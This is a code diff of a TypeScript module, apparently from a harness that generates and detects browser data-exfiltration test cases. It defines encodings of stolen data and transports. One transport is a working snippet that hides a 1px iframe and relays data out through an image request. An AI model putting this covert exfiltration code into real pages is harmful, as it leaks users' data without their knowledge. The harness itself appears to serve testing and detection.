@@ -1,16 +1,16 @@
-import { type At, quoted } from './at.ts'
+import { type CaseContext, quote } from './case-context.ts'
 
-/** How stolen data is encoded: in the browser, and on the server to recognise it. */
+/** Encoding of stolen data: in the browser, and on the server to recognize it. */
 export interface Encoding {
   name: string
   browser: (expression: string) => string
-  /** Texts of which one is in what arrives. */
+  /** Possible forms of the text on arrival. */
   server: (text: string) => string[]
 }
 
 const bytes = (text: string) => [...Buffer.from(text)]
 
-/** Inside a longer text, three bytes share four signs: the text can begin at each of three places. Signs shared with others are left out. */
+/** In base64, three bytes share four characters, so the text can start at three offsets. Characters shared with neighbours are left out. */
 const base64Within = (text: string) =>
   [0, 1, 2].map((before) => {
     const whole = Buffer.from(' '.repeat(before) + text)
@@ -50,10 +50,10 @@ export const encodings: Encoding[] = [
   },
 ]
 
-/** Statements that send the encoded value `v` to the address prefix `u`. */
+/** Statements that send the encoded value `v` to the URL prefix `u`. */
 export interface Transport {
   name: string
-  code: (at: At) => string
+  code: (context: CaseContext) => string
 }
 
 const make = (element: string, property: string, extra = '') =>
@@ -113,9 +113,9 @@ export const transports: Transport[] = [
   },
   {
     name: 'relay-frame',
-    code: (at) =>
-      `var k=document.createElement('iframe');k.style.cssText='position:absolute;width:1px;height:1px;border:0';k.onload=function(){k.contentWindow.postMessage(u+v,'*')};k.src=${quoted(
-        at.file('<script>onmessage=function(e){new Image().src=e.data}</script>', 'html'),
+    code: (context) =>
+      `var k=document.createElement('iframe');k.style.cssText='position:absolute;width:1px;height:1px;border:0';k.onload=function(){k.contentWindow.postMessage(u+v,'*')};k.src=${quote(
+        context.file('<script>onmessage=function(e){new Image().src=e.data}</script>', 'html'),
       )};(document.body||document.documentElement).appendChild(k)`,
   },
 ]
